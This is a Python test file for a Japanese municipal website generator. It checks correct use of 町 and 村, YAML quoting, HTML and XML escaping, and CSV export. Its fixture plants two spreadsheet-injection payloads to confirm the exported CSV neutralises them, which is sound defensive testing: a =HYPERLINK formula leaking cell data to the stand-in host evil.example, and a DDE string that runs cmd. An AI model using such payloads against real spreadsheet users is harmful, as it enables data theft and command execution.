"""Words come from the settings, and every output format is escaped for the program that reads it.

Review rows #87, #88, #111, #112 and #59 (problems F22, F23, F5, F24 and F6).
"""

from __future__ import annotations

import csv
import io
import re
import xml.etree.ElementTree as ET
from html import escape
from pathlib import Path

import pytest

from generator.build import build_site
from generator.compose import assemble_site
from generator.loading import load_catalog
from generator.loading.yaml_source import load_yaml
from generator.site.changes import render_feed
from tests.commands.conftest import all_output, small_project
from tests.conftest import ROOT, as_built

TEMPLATES = [*(ROOT / "generator" / "templates").rglob("*.html"), *(ROOT / "theme").glob("*.html")]


def test_a_village_site_never_says_town_and_a_town_site_never_says_village(tmp_path: Path) -> None:
    # F22 (#87): 「町に おたずねください」 on all 27 pages of 榛東村's site. Every generated page is read.
    for settings, wrong in (("shinto.yml", "町"), ("hashikami.yml", "村")):
        catalog = as_built(load_catalog(ROOT / "procedures", ROOT / "municipalities" / settings))
        output = assemble_site(catalog)
        text = "".join(page.html for page in output.pages)
        for procedure in catalog.procedures:  # national content may speak of 「ある 町の 例」 in a source title
            for source in procedure.sources:
                text = text.replace(escape(source.title), "")
        # 市区町村 (any municipality) and names such as 階上町 are right; a bare 町 or 村 before a particle is not.
        bare = re.findall(rf"(?<![一-龥ぁ-んァ-ン]){wrong}(?:に|の|で|から|へ)", re.sub("市区町村", "", text))
        assert not bare, (settings, bare[:3])
    assert load_catalog(ROOT / "procedures", ROOT / "municipalities" / "shinto.yml").municipality.kind == "village"
    city = tmp_path / "city.yml"
    city.write_text((ROOT / "municipalities" / "shinto.yml").read_text(encoding="utf-8").replace("name: 榛東村", "name: 榛東市"), encoding="utf-8")
    assert load_catalog(ROOT / "procedures", city).municipality.kind == "city"


def test_no_template_names_the_kind_of_municipality_itself() -> None:
    # The class of F22: 町 (or 村, 市) written into a template is wrong for two of the three kinds.
    for template in TEMPLATES:
        # Visible text only: an anchor id such as #この町での申請 is an address, not a sentence.
        text = re.sub(r'市区町村|〇〇町|(id|href)="[^"]*"', "", template.read_text(encoding="utf-8"))
        assert not re.search(r"(?<![一-龥])[町村市](に|の|で|から|へ)", text), template


@pytest.mark.parametrize("name", ["みどり町 #2", "みどり町: 子育て", "*みどり町", '"みどり町', "yes"])
def test_new_municipality_writes_the_name_so_it_reads_back_unchanged(run, tmp_path: Path, name: str) -> None:
    # F23 (#88): `--name 'みどり町 #2'` was read back as みどり町; `:` `*` `"` made a file that did not parse.
    project = small_project(tmp_path / "project")
    result = run(project, "new", "municipality", "t1", "--name", name)
    assert result.exit_code == 0, all_output(result)
    document = load_yaml(project / "municipalities" / "t1.yml")
    assert document.problems == [] and document.data["name"] == name


@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The small project with a formula title, a formula department and a title holding <…> and &amp;."""
    project = small_project(tmp_path_factory.mktemp("hostile") / "project")
    k01 = project / "procedures" / "k01-test.yml"
    text = k01.read_text(encoding="utf-8")
    text = re.sub(r"^title: .*$", "title: '児童手当 <18歳まで> の 申請 &amp; 相談'", text, count=1, flags=re.M)
    text = re.sub(r"^official_name: .*$", """official_name: '=HYPERLINK("https://evil.example/?"&A2,"申請はこちら")'""", text, count=1, flags=re.M)
    k01.write_text(text, encoding="utf-8")
    town = project / "municipalities" / "testtown.yml"
    town.write_text(town.read_text(encoding="utf-8").replace("name: こども課", """name: "@SUM(1+1)*cmd|' /C calc'!A0\""""), encoding="utf-8")
    return build_site(project / "mkdocs.yml")


def test_no_csv_cell_starts_a_spreadsheet_formula(hostile_site: Path) -> None:
    # F5 (#111): =HYPERLINK(…) and @SUM(…) were live formulas in opendata/procedures.csv.
    rows = list(csv.reader(io.StringIO((hostile_site / "opendata" / "procedures.csv").read_text(encoding="utf-8-sig"))))
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert """'=HYPERLINK("https://evil.example/?"&A2,"申請はこちら")""" in cells
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in cells
    # The JSON keeps the exact text: it is read by programs, not by a spreadsheet.
    assert '"=HYPERLINK(' in (hostile_site / "opendata" / "procedures.json").read_text(encoding="utf-8")


def test_the_page_title_keeps_every_character(hostile_site: Path) -> None:
    # F24 (#112): striptags removed 「<18歳まで>」 from <title> and decoded the literal &amp;.
    page = next(hostile_site.glob("kosodate/*/index.html")).read_text(encoding="utf-8")
    title = re.search(r"<title>([^<]*)</title>", page)[1]
    # The standard edition drops the phrase space between two Japanese words (の申請); every character stays.
    assert title.startswith("児童手当 &lt;18歳まで&gt; の申請 &amp;amp; 相談 - ")
    help_page = (hostile_site / "help" / "pin" / "index.html").read_text(encoding="utf-8")
    assert "<title>" in help_page and "&lt;" not in re.search(r"<title>([^<]*)</title>", help_page)[1]


def test_the_feed_stays_well_formed_whatever_text_reaches_it() -> None:
    # F6 (#59): "\a\e\v\0" in a title made koushin/atom.xml invalid XML. The loader now refuses such text;
    # the feed removes what XML cannot carry even when a model is built some other way.
    catalog = load_catalog(ROOT / "procedures", ROOT / "municipalities" / "hashikami.yml")
    first = catalog.procedures[0].model_copy(update={"title": "a\x07\x1b\x0b\x00 b\ufffe"})
    broken = catalog.__class__(**{**catalog.__dict__, "procedures": (first, *catalog.procedures[1:])})
    feed = ET.fromstring(render_feed(broken))
    titles = [e.text for e in feed.iter("{http://www.w3.org/2005/Atom}title")]
    assert "a\ufffd\ufffd\ufffd\ufffd b\ufffd" in titles
